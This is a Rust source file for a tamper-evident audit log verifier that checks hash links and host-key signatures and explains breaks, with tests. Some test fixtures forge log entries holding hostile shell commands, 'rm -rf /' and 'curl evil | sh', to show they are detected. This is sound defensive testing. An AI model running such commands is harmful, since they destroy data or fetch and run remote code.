//! `seashell audit verify`: walks the chain through one or more files (oldest first), checks
//! that every line links to the one before and that every checkpoint is signed by the host key,
//! and gives a [`Verdict`]. At the first break it hands the lines around it to `explain`,
//! which says what most likely happened (a line edited, deleted, inserted or moved, or a bad
//! signature) and where. It only reads; what it can and cannot prove is in docs/audit.md.

mod explain;
pub mod witness;

use std::collections::{HashMap, VecDeque};
use std::fmt;
use std::fs::File;
use std::io::{BufRead as _, BufReader};
use std::path::{Path, PathBuf};

use crate::crypto::PublicKey;

use self::witness::{Confirmed, Witnessed};
use super::chain::{Event, EventKind, Seal, check_checkpoint, line_hash};
use super::{AuditError, rotated_set};
use crate::keys::private::load_public_key_file;
use crate::keys::public::fingerprint;

/// How many lines around a break are looked at to explain it.
const WINDOW: usize = 64;

/// A line in a file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Location {
    /// The file, as given.
    pub file: PathBuf,
    /// The line number, from 1.
    pub line: u64,
}

impl fmt::Display for Location {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}:{}", self.file.display(), self.line)
    }
}

/// What most likely happened at a break.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Tamper {
    /// The line's bytes changed.
    Edited,
    /// Lines are missing before this one.
    Deleted,
    /// The line is not part of the chain.
    Inserted,
    /// The line is part of the chain, in the wrong place.
    Reordered,
    /// A checkpoint whose signature does not verify under the host key.
    BadSignature,
}

impl fmt::Display for Tamper {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Edited => "edited",
            Self::Deleted => "deleted",
            Self::Inserted => "inserted",
            Self::Reordered => "reordered",
            Self::BadSignature => "bad signature",
        })
    }
}

/// The first place where the chain does not hold.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Break {
    /// The first bad line.
    pub at: Location,
    /// What most likely happened.
    pub tamper: Tamper,
    /// The evidence.
    pub detail: String,
}

/// Where a log given without its oldest files begins: the first line of its first file is the
/// `rotate` line that continues an older file, not the genesis.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Suffix {
    /// That `rotate` line.
    pub at: Location,
    /// Its seq: the lines before it, from the genesis, are in files not given.
    pub seq: u64,
    /// How many lines the file before it held.
    pub lines: Option<u64>,
}

impl fmt::Display for Suffix {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let older = self.lines.map_or_else(
            || "an older file".to_owned(),
            |n| format!("an older file of {n} lines"),
        );
        write!(
            f,
            "the log begins at {} (seq {}), where it continues {older} not given (seq 1 to {} \
             were not checked)",
            self.at,
            self.seq,
            self.seq.saturating_sub(1)
        )
    }
}

/// How a log whose links all hold ends when its last line is not a final seal.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ending {
    /// Events follow the last checkpoint (or there is none).
    Events,
    /// An ordinary checkpoint: written while the server ran.
    Checkpoint,
    /// The checkpoint a file ends with before it is rotated: the file after it is missing or
    /// empty (or the server crashed while rotating).
    Rotation,
    /// `stop` and a checkpoint without the final mark, as seashell wrote at a clean stop
    /// before checkpoints were marked: a clean stop then, or a log cut back to one.
    OlderStop,
}

/// The outcome of a verification.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Every link holds and the last line is a valid checkpoint (exit 0).
    Sealed {
        /// Lines checked.
        events: u64,
        /// Files read.
        files: usize,
        /// The last line.
        last_checkpoint: Location,
        /// Set when the oldest files were not given.
        suffix: Option<Suffix>,
        /// What a witness confirmed, when one was given.
        witness: Option<Confirmed>,
    },
    /// Every link holds, but the log does not end in its final seal (exit 2): the server is
    /// still running, or crashed, or the log was cut back (to any earlier line, checkpoints
    /// included: only a witness tells).
    Unsealed {
        /// Lines checked.
        events: u64,
        /// Files read.
        files: usize,
        /// Lines after the last checkpoint.
        after: u64,
        /// The last checkpoint, if any.
        last_checkpoint: Option<Location>,
        /// The very last line was incomplete (a crash while writing) and was not counted.
        torn: bool,
        /// How the log ends instead of with its final seal.
        ending: Ending,
        /// Set when the oldest files were not given.
        suffix: Option<Suffix>,
        /// What a witness confirmed, when one was given.
        witness: Option<Confirmed>,
    },
    /// The chain is broken (exit 1).
    Broken(Break),
}

impl Verdict {
    /// 0 sealed, 1 broken, 2 live or crashed.
    pub fn exit_code(&self) -> u8 {
        match self {
            Self::Sealed { .. } => 0,
            Self::Broken(_) => 1,
            Self::Unsealed { .. } => 2,
        }
    }
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let place = |at: &Location, files: usize| {
            if files == 1 {
                format!("line {}", at.line)
            } else {
                at.to_string()
            }
        };
        match self {
            Self::Sealed {
                events,
                files,
                last_checkpoint,
                suffix,
                witness,
            } => {
                let across = if *files == 1 {
                    String::new()
                } else {
                    format!(" in {files} files")
                };
                write!(
                    f,
                    "OK: {events} events{across}, last checkpoint at {}",
                    place(last_checkpoint, *files)
                )?;
                if let Some(suffix) = suffix {
                    write!(f, "\n{suffix}")?;
                }
                write_confirmed(f, witness.as_ref())
            }
            Self::Unsealed {
                events,
                files,
                after,
                last_checkpoint,
                torn,
                ending,
                suffix,
                witness,
            } => {
                writeln!(f, "chain intact: {events} events, every link holds")?;
                if let Some(suffix) = suffix {
                    writeln!(f, "{suffix}")?;
                }
                let checkpoint = last_checkpoint
                    .as_ref()
                    .map_or("none yet".to_owned(), |at| place(at, *files));
                match ending {
                    Ending::Events => write!(
                        f,
                        "{after} events after the last checkpoint ({checkpoint}): live, crashed \
                         or cut"
                    )?,
                    Ending::Checkpoint => write!(
                        f,
                        "the last line ({checkpoint}) is a checkpoint, not the final seal of a \
                         clean stop: live, crashed or cut"
                    )?,
                    Ending::Rotation => write!(
                        f,
                        "the last line ({checkpoint}) is the checkpoint a file ends with before \
                         it is rotated, and no file follows: the newest file is missing or empty \
                         (or the server crashed while rotating)"
                    )?,
                    Ending::OlderStop => write!(
                        f,
                        "the last line ({checkpoint}) is the checkpoint after a `stop`, written \
                         by a seashell older than the final seal: stopped cleanly then, or cut \
                         back to that point (check against a witness)"
                    )?,
                }
                if *torn {
                    write!(
                        f,
                        "\nthe last line is incomplete (cut off while being written) and was not \
                         counted"
                    )?;
                }
                write_confirmed(f, witness.as_ref())
            }
            Self::Broken(b) => write!(f, "FAILED: {}: {}: {}", b.at, b.tamper, b.detail),
        }
    }
}

/// The witness's line of a verdict: how many checkpoints recorded elsewhere the log holds.
fn write_confirmed(f: &mut fmt::Formatter<'_>, witness: Option<&Confirmed>) -> fmt::Result {
    let Some(witness) = witness else {
        return Ok(());
    };
    write!(
        f,
        "\nwitness: {} checkpoint(s) recorded elsewhere are in the log",
        witness.found
    )?;
    if let Some(latest) = &witness.latest {
        write!(
            f,
            ", the latest seq {} ({}): nothing before it was cut",
            latest.seq, latest.time
        )?;
    }
    if witness.older > 0 {
        write!(
            f,
            "; {} older than the files given were not checked",
            witness.older
        )?;
    }
    Ok(())
}

/// `seashell audit verify --host-key HOST.pub [--witness W] FILE...`: a single FILE stands for
/// its whole rotated set (`FILE.N` ... `FILE.1`, `FILE`); several files are taken as given,
/// oldest first. With a witness, every checkpoint it recorded must be in the log.
pub fn run(
    host_key: &Path,
    files: &[PathBuf],
    witness: Option<&Path>,
) -> Result<Verdict, AuditError> {
    let (host, _) = load_public_key_file(host_key)?;
    let files = match files {
        [single] => rotated_set(single),
        many => many.to_vec(),
    };
    let witnessed = witness
        .map(|witness| witness::read(witness, &host))
        .transpose()?;
    verify_against(&files, &host, witnessed.as_deref())
}

/// Verifies the chain through `files`, oldest first.
pub fn verify_files(files: &[PathBuf], host: &PublicKey) -> Result<Verdict, AuditError> {
    verify_against(files, host, None)
}

/// Verifies the chain through `files`, oldest first, and that it holds every checkpoint in
/// `witnessed` (when given).
pub fn verify_against(
    files: &[PathBuf],
    host: &PublicKey,
    witnessed: Option<&[Witnessed]>,
) -> Result<Verdict, AuditError> {
    let mut lines = LineReader::new(files);
    let mut walk = Walk {
        host,
        host_fingerprint: fingerprint(host),
        recent: VecDeque::with_capacity(WINDOW),
        events: 0,
        last_checkpoint: None,
        ending: None,
        previous: None,
        suffix: None,
        checkpoints: HashMap::new(),
        after: 0,
    };
    let mut torn = false;
    while let Some(line) = lines.next() {
        let line = line?;
        if !line.complete {
            if lines.next().transpose()?.is_none() {
                torn = true;
                break;
            }
            return Ok(Verdict::Broken(Break {
                at: line.at,
                tamper: Tamper::Edited,
                detail: "the line has no newline but more lines follow it".to_owned(),
            }));
        }
        if let Err(problem) = walk.accept(&line) {
            let ahead = lines.by_ref().take(WINDOW).collect::<Result<Vec<_>, _>>()?;
            let mut found = walk.explain(problem, &line, &ahead);
            if let Some(empty) = lines.empty_before(&found.at) {
                found
                    .detail
                    .push_str(&format!("; {} is empty", empty.display()));
            }
            return Ok(Verdict::Broken(found));
        }
    }
    let files = files.len();
    if walk.events == 0 && !torn {
        return Err(AuditError::Empty {
            path: lines.files.last().cloned().unwrap_or_default(),
        });
    }
    let first = walk.suffix.as_ref().map_or(1, |suffix| suffix.seq);
    let last = walk.recent.back().map_or(0, |line| line.seq);
    let witness = match witnessed {
        Some(witnessed) => match witness::compare(witnessed, &walk.checkpoints, first, last) {
            Ok(confirmed) => Some(confirmed),
            Err(found) => return Ok(Verdict::Broken(found)),
        },
        None => None,
    };
    let ending = match walk.ending {
        Some(ending) if walk.after == 0 && !torn => ending,
        _ => Err(Ending::Events),
    };
    Ok(match (ending, walk.last_checkpoint) {
        (Ok(()), Some(last_checkpoint)) => Verdict::Sealed {
            events: walk.events,
            files,
            last_checkpoint,
            suffix: walk.suffix,
            witness,
        },
        (ending, last_checkpoint) => Verdict::Unsealed {
            events: walk.events,
            files,
            after: walk.after,
            last_checkpoint,
            torn,
            ending: ending.err().unwrap_or(Ending::Events),
            suffix: walk.suffix,
            witness,
        },
    })
}

/// One line as read: its place, its bytes (without newline) and what they parse to.
struct Line {
    at: Location,
    hash: String,
    event: Result<Event, String>,
    bytes: Vec<u8>,
    complete: bool,
}

impl Line {
    fn prev(&self) -> Option<&str> {
        self.event.as_ref().ok().map(|e| e.prev.as_str())
    }

    fn seq(&self) -> Option<u64> {
        self.event.as_ref().ok().map(|e| e.seq)
    }
}

/// The lines of several files in order.
struct LineReader {
    files: Vec<PathBuf>,
    next_file: usize,
    current: Option<(PathBuf, BufReader<File>, u64)>,
    /// The files read so far that held no line.
    empty: Vec<PathBuf>,
}

impl LineReader {
    fn new(files: &[PathBuf]) -> Self {
        Self {
            files: files.to_vec(),
            next_file: 0,
            current: None,
            empty: Vec::new(),
        }
    }

    /// The empty file given just before the file of `at`, when `at` is its first line.
    fn empty_before(&self, at: &Location) -> Option<&PathBuf> {
        let index = self.files.iter().position(|file| *file == at.file)?;
        let before = self.files.get(index.checked_sub(1)?)?;
        (at.line == 1 && self.empty.contains(before)).then_some(before)
    }
}

impl Iterator for LineReader {
    type Item = Result<Line, AuditError>;

    fn next(&mut self) -> Option<Self::Item> {
        loop {
            if self.current.is_none() {
                let path = self.files.get(self.next_file)?.clone();
                self.next_file += 1;
                match File::open(&path) {
                    Ok(file) => self.current = Some((path, BufReader::new(file), 0)),
                    Err(err) => return Some(Err(AuditError::io(&path)(err))),
                }
            }
            let (path, reader, number) = self.current.as_mut()?;
            let mut bytes = Vec::new();
            match reader.read_until(b'\n', &mut bytes) {
                Ok(0) => {
                    if *number == 0 {
                        self.empty.push(path.clone());
                    }
                    self.current = None;
                }
                Ok(_) => {
                    *number += 1;
                    let complete = bytes.last() == Some(&b'\n');
                    if complete {
                        bytes.pop();
                    }
                    return Some(Ok(Line {
                        at: Location {
                            file: path.clone(),
                            line: *number,
                        },
                        hash: line_hash(&bytes),
                        event: Event::parse(&bytes).map_err(|err| err.to_string()),
                        bytes,
                        complete,
                    }));
                }
                Err(err) => return Some(Err(AuditError::io(path)(err))),
            }
        }
    }
}

/// A line that passed, as later lines need it.
struct Linked {
    at: Location,
    seq: u64,
    hash: String,
    checkpoint: bool,
}

/// Why a line was not accepted.
enum Problem {
    /// Plain from the line itself.
    Plain(Break),
    /// The first line is not the genesis `start`.
    Head,
    /// The line does not link to the one before.
    Link,
}

struct Walk<'a> {
    host: &'a PublicKey,
    host_fingerprint: String,
    /// The last lines accepted, newest at the back.
    recent: VecDeque<Linked>,
    events: u64,
    last_checkpoint: Option<Location>,
    /// How the last checkpoint ends the log, were it the last line: `Ok` for a final seal.
    ending: Option<Result<(), Ending>>,
    /// The kind of the last line accepted.
    previous: Option<EventKind>,
    /// Set when the first line is a `rotate` line: the oldest files were not given.
    suffix: Option<Suffix>,
    /// Every checkpoint accepted: seq → the hash of its line, and where it is.
    checkpoints: HashMap<u64, (String, Location)>,
    after: u64,
}

impl Walk<'_> {
    fn accept(&mut self, line: &Line) -> Result<(), Problem> {
        let plain = |tamper, detail: String| {
            Problem::Plain(Break {
                at: line.at.clone(),
                tamper,
                detail,
            })
        };
        let event = line
            .event
            .as_ref()
            .map_err(|err| plain(Tamper::Edited, format!("not an audit event ({err})")))?;
        match self.recent.back() {
            None if event.is_genesis() && event.seq != 1 => {
                return Err(plain(
                    Tamper::Edited,
                    format!("the genesis line has seq {}, not 1", event.seq),
                ));
            }
            None if event.genesis.is_some() && !event.is_genesis() => {
                return Err(plain(
                    Tamper::Edited,
                    "a genesis line whose prev is not its genesis value".to_owned(),
                ));
            }
            None if event.record.event == EventKind::Rotate && line.at.line == 1 => {
                self.suffix = Some(Suffix {
                    at: line.at.clone(),
                    seq: event.seq,
                    lines: event.record.lines,
                });
            }
            None if !event.is_genesis() => return Err(Problem::Head),
            None => {}
            Some(last) if event.prev != last.hash => return Err(Problem::Link),
            Some(last) if Some(event.seq) != last.seq.checked_add(1) => {
                return Err(plain(
                    Tamper::Edited,
                    format!(
                        "seq {} where {} was expected, though the line links correctly to {}: \
                         its seq was changed",
                        event.seq,
                        last.seq.saturating_add(1),
                        last.at
                    ),
                ));
            }
            Some(_) => {}
        }
        let checkpoint = event.record.event == EventKind::Checkpoint;
        if checkpoint && let Err(detail) = self.signature(line, event) {
            return Err(plain(Tamper::BadSignature, detail));
        }
        if self.recent.len() == WINDOW {
            self.recent.pop_front();
        }
        self.recent.push_back(Linked {
            at: line.at.clone(),
            seq: event.seq,
            hash: line.hash.clone(),
            checkpoint,
        });
        self.events += 1;
        if checkpoint {
            self.checkpoints
                .insert(event.seq, (line.hash.clone(), line.at.clone()));
            self.last_checkpoint = Some(line.at.clone());
            self.ending = Some(match (event.record.seal, self.previous) {
                (Some(Seal::Final), _) => Ok(()),
                (Some(Seal::Rotate), _) => Err(Ending::Rotation),
                (None, Some(EventKind::Stop)) => Err(Ending::OlderStop),
                (None, _) => Err(Ending::Checkpoint),
            });
            self.after = 0;
        } else {
            self.after += 1;
        }
        self.previous = Some(event.record.event);
        Ok(())
    }

    /// Checks a checkpoint's signature; the error says why it fails.
    fn signature(&self, line: &Line, event: &Event) -> Result<(), String> {
        let text = std::str::from_utf8(&line.bytes).map_err(|_| "not UTF-8".to_owned())?;
        check_checkpoint(text, event, self.host).map_err(|problem| {
            match event.record.key.as_deref() {
                Some(key) if key != self.host_fingerprint => format!(
                    "{problem}: the checkpoint names host key {key}, not the given {}",
                    self.host_fingerprint
                ),
                _ => format!(
                    "{problem}: the checkpoint (or a byte of it) was changed, or it was not \
                     signed by this host key"
                ),
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use crate::crypto::PrivateKey;

    use super::*;
    use crate::audit::chain::{AuditChain, Record};

    const TIME: &str = "2025-06-01T12:00:00.000Z";

    fn host_key() -> PrivateKey {
        crate::keys::private::from_pem(include_str!("../../tests/fixtures/host_rsa")).unwrap()
    }

    /// A sealed log of 11 lines with a checkpoint in the middle (line 6) and the final seal at
    /// the end.
    fn sealed_log(key: &PrivateKey) -> Vec<String> {
        let mut chain = AuditChain::new([9; 32]);
        let steps = [
            Ok((EventKind::Start, None)),
            Ok((EventKind::Connect, None)),
            Ok((EventKind::AuthOk, None)),
            Ok((EventKind::Command, Some("id"))),
            Ok((EventKind::Exit, None)),
            Err(None),
            Ok((EventKind::Command, Some("ls"))),
            Ok((EventKind::Exit, None)),
            Ok((EventKind::Disconnect, None)),
            Ok((EventKind::Stop, None)),
            Err(Some(Seal::Final)),
        ];
        steps
            .into_iter()
            .map(|step| match step {
                Ok((kind, command)) => {
                    let mut record = Record::new(kind);
                    record.session = Some("s1".into());
                    record.command = command.map(str::to_owned);
                    chain.seal(record, TIME.into()).unwrap()
                }
                Err(seal) => chain
                    .seal_checkpoint(TIME.into(), key, "SHA256:h", seal)
                    .unwrap(),
            })
            .collect()
    }

    fn check(lines: &[String]) -> Verdict {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log");
        std::fs::write(
            &path,
            lines.iter().map(|l| format!("{l}\n")).collect::<String>(),
        )
        .unwrap();
        verify_files(&[path], host_key().public_key()).unwrap()
    }

    fn broken_at(verdict: &Verdict) -> (u64, Tamper) {
        match verdict {
            Verdict::Broken(b) => (b.at.line, b.tamper),
            other => panic!("expected a break, got {other:?}"),
        }
    }

    #[test]
    fn an_intact_log_is_sealed() {
        let lines = sealed_log(&host_key());
        let verdict = check(&lines);
        assert_eq!(verdict.exit_code(), 0);
        assert_eq!(
            verdict.to_string(),
            "OK: 11 events, last checkpoint at line 11"
        );
    }

    #[test]
    fn every_edit_is_found_at_its_line() {
        let lines = sealed_log(&host_key());
        for i in 0..lines.len() {
            let mut edited = lines.clone();
            edited[i] = edited[i].replacen("\"time\":\"2025", "\"time\":\"2024", 1);
            let is_checkpoint = edited[i].contains("\"checkpoint\"");
            let want = if is_checkpoint {
                Tamper::BadSignature
            } else {
                Tamper::Edited
            };
            assert_eq!(
                broken_at(&check(&edited)),
                (i as u64 + 1, want),
                "line {}",
                i + 1
            );
        }
    }

    #[test]
    fn every_deletion_is_found_where_the_hole_is() {
        let lines = sealed_log(&host_key());
        for i in 0..lines.len() - 1 {
            let mut cut = lines.clone();
            cut.remove(i);
            assert_eq!(
                broken_at(&check(&cut)),
                (i as u64 + 1, Tamper::Deleted),
                "line {}",
                i + 1
            );
        }
    }

    #[test]
    fn every_insertion_is_found_at_the_inserted_line() {
        let lines = sealed_log(&host_key());
        let forged = lines[3].replace("\"id\"", "\"rm -rf /\"");
        for i in 0..=lines.len() {
            let mut grown = lines.clone();
            grown.insert(i, forged.clone());
            assert_eq!(
                broken_at(&check(&grown)),
                (i as u64 + 1, Tamper::Inserted),
                "inserted as line {}",
                i + 1
            );
        }
    }

    #[test]
    fn a_well_linked_forged_line_is_still_found() {
        // A forger who recomputes seq and prev for the inserted line only.
        let lines = sealed_log(&host_key());
        let mut event = Event::parse(lines[6].as_bytes()).unwrap();
        event.record.command = Some("curl evil | sh".into());
        event.prev = line_hash(lines[6].as_bytes());
        event.seq = 8;
        let mut grown = lines.clone();
        grown.insert(7, event.to_line().unwrap());
        assert_eq!(broken_at(&check(&grown)), (8, Tamper::Inserted));
    }

    #[test]
    fn every_swap_is_found_as_a_reorder() {
        let lines = sealed_log(&host_key());
        for i in 0..lines.len() - 1 {
            let mut swapped = lines.clone();
            swapped.swap(i, i + 1);
            assert_eq!(
                broken_at(&check(&swapped)),
                (i as u64 + 1, Tamper::Reordered),
                "lines {} and {}",
                i + 1,
                i + 2
            );
        }
    }

    #[test]
    fn a_rewritten_chain_fails_at_the_next_checkpoint() {
        // Recompute every link after an edit: only the signature can tell.
        let lines = sealed_log(&host_key());
        let mut rewritten = lines[..6].to_vec();
        rewritten[3] = rewritten[3].replace("\"id\"", "\"true\"");
        for i in 4..6 {
            let mut event = Event::parse(rewritten[i].as_bytes()).unwrap();
            event.prev = line_hash(rewritten[i - 1].as_bytes());
            rewritten[i] = event.to_line().unwrap();
        }
        assert_eq!(broken_at(&check(&rewritten)), (6, Tamper::BadSignature));
    }

    #[test]
    fn a_missing_final_checkpoint_is_live_or_crashed() {
        let lines = sealed_log(&host_key());
        let verdict = check(&lines[..10]);
        assert_eq!(verdict.exit_code(), 2);
        assert_eq!(
            verdict.to_string(),
            "chain intact: 10 events, every link holds\n\
             4 events after the last checkpoint (line 6): live, crashed or cut"
        );
        let mut torn = lines[..10]
            .iter()
            .map(|l| format!("{l}\n"))
            .collect::<String>();
        torn.push_str("{\"time\":");
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log");
        std::fs::write(&path, torn).unwrap();
        let verdict = verify_files(&[path], host_key().public_key()).unwrap();
        assert!(matches!(
            verdict,
            Verdict::Unsealed {
                after: 4,
                torn: true,
                ..
            }
        ));
    }

    #[test]
    fn a_log_cut_back_to_an_earlier_checkpoint_is_live_crashed_or_cut() {
        let lines = sealed_log(&host_key());
        let verdict = check(&lines[..6]);
        assert_eq!(verdict.exit_code(), 2, "{verdict}");
        assert!(
            matches!(
                verdict,
                Verdict::Unsealed {
                    after: 0,
                    ending: Ending::Checkpoint,
                    ..
                }
            ),
            "{verdict:?}"
        );
        assert_eq!(
            verdict.to_string(),
            "chain intact: 6 events, every link holds\n\
             the last line (line 6) is a checkpoint, not the final seal of a clean stop: live, \
             crashed or cut"
        );
    }

    #[test]
    fn an_older_seashells_clean_stop_is_not_a_final_seal() {
        // Before seals were marked, a clean stop was `stop` and a plain checkpoint.
        let key = host_key();
        let mut lines = sealed_log(&key)[..10].to_vec();
        let mut chain = AuditChain::resume(lines[9].as_bytes()).unwrap();
        lines.push(
            chain
                .seal_checkpoint(TIME.into(), &key, "SHA256:h", None)
                .unwrap(),
        );
        let verdict = check(&lines);
        assert_eq!(verdict.exit_code(), 2, "{verdict}");
        assert!(
            verdict
                .to_string()
                .contains("written by a seashell older than the final seal"),
            "{verdict}"
        );
    }

    /// Verifies `lines` against a witness file holding `witness`.
    fn check_witnessed(lines: &[String], witness: &str) -> Verdict {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log");
        std::fs::write(
            &path,
            lines.iter().map(|l| format!("{l}\n")).collect::<String>(),
        )
        .unwrap();
        let witness_path = dir.path().join("witness");
        std::fs::write(&witness_path, witness).unwrap();
        let key = host_key();
        let witnessed = witness::read(&witness_path, key.public_key()).unwrap();
        verify_against(&[path], key.public_key(), Some(&witnessed)).unwrap()
    }

    #[test]
    fn a_witnessed_checkpoint_missing_from_the_log_is_a_failure() {
        let lines = sealed_log(&host_key());
        // What the syslog sink sent: RFC 5424 messages, the audit line as their body.
        let witness: String = lines
            .iter()
            .map(|l| format!("<86>1 {TIME} box seashell 42 checkpoint - {l}\n"))
            .collect();
        let whole = check_witnessed(&lines, &witness);
        assert_eq!(whole.exit_code(), 0, "{whole}");
        assert!(
            whole.to_string().contains(
                "witness: 2 checkpoint(s) recorded elsewhere are in the log, the latest seq 11"
            ),
            "{whole}"
        );
        // Cut back to the checkpoint at line 6: intact alone, a failure against the witness.
        let cut = check_witnessed(&lines[..6], &witness);
        assert_eq!(cut.exit_code(), 1, "{cut}");
        let Verdict::Broken(found) = cut else {
            panic!()
        };
        assert_eq!((found.at.line, found.tamper), (11, Tamper::Deleted));
        assert!(
            found.detail.contains("the log was cut back"),
            "{}",
            found.detail
        );
        // The JSON lines themselves do as well as syslog messages.
        let json: String = lines.iter().map(|l| format!("{l}\n")).collect();
        assert_eq!(check_witnessed(&lines[..6], &json).exit_code(), 1);
        // A live log that holds everything the witness saw is still live (2).
        let seen: String = lines[..6].iter().map(|l| format!("{l}\n")).collect();
        assert_eq!(check_witnessed(&lines[..8], &seen).exit_code(), 2);
    }

    #[test]
    fn a_witness_that_does_not_verify_is_refused() {
        let lines = sealed_log(&host_key());
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("witness");
        let forged = lines[5].replacen("\"seq\":6", "\"seq\":60", 1);
        std::fs::write(&path, format!("{}\n{forged}\n", lines[3])).unwrap();
        let err = witness::read(&path, host_key().public_key()).unwrap_err();
        assert!(
            err.to_string()
                .contains("witness:2: a witnessed checkpoint"),
            "{err}"
        );
    }

    #[test]
    fn another_host_key_fails_the_first_checkpoint() {
        let lines = sealed_log(&host_key());
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log");
        std::fs::write(
            &path,
            lines.iter().map(|l| format!("{l}\n")).collect::<String>(),
        )
        .unwrap();
        let other =
            crate::keys::private::from_pem(include_str!("../../tests/fixtures/other_rsa")).unwrap();
        let verdict = verify_files(&[path], other.public_key()).unwrap();
        let (line, tamper) = broken_at(&verdict);
        assert_eq!((line, tamper), (6, Tamper::BadSignature));
        assert!(
            verdict.to_string().contains("names host key SHA256:h"),
            "{verdict}"
        );
    }

    #[test]
    fn a_missing_rotated_file_is_a_deletion_at_the_next_file() {
        let lines = sealed_log(&host_key());
        let dir = tempfile::tempdir().unwrap();
        let parts = [&lines[..3], &lines[3..6], &lines[6..]];
        let files: Vec<PathBuf> = parts
            .iter()
            .enumerate()
            .map(|(n, part)| {
                let path = dir.path().join(format!("log.{n}"));
                std::fs::write(
                    &path,
                    part.iter().map(|l| format!("{l}\n")).collect::<String>(),
                )
                .unwrap();
                path
            })
            .collect();
        let key = host_key();
        let all = verify_files(&files, key.public_key()).unwrap();
        assert!(
            matches!(
                all,
                Verdict::Sealed {
                    events: 11,
                    files: 3,
                    ..
                }
            ),
            "{all:?}"
        );
        let gap = verify_files(&[files[0].clone(), files[2].clone()], key.public_key()).unwrap();
        let Verdict::Broken(found) = gap else {
            panic!("{gap:?}")
        };
        assert_eq!(found.at.file, files[2]);
        assert_eq!((found.at.line, found.tamper), (1, Tamper::Deleted));
        assert!(
            found.detail.contains("rotated file missing"),
            "{}",
            found.detail
        );
        // A later file alone does not begin at the genesis.
        let tail = verify_files(&files[2..], key.public_key()).unwrap();
        assert!(matches!(
            tail,
            Verdict::Broken(Break {
                tamper: Tamper::Deleted,
                ..
            })
        ));
    }

    #[test]
    fn junk_is_an_edit_and_an_empty_log_an_error() {
        let mut lines = sealed_log(&host_key());
        lines[4] = "not json".into();
        assert_eq!(broken_at(&check(&lines)), (5, Tamper::Edited));
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("log");
        std::fs::write(&path, "").unwrap();
        assert!(matches!(
            verify_files(&[path], host_key().public_key()),
            Err(AuditError::Empty { .. })
        ));
    }
}
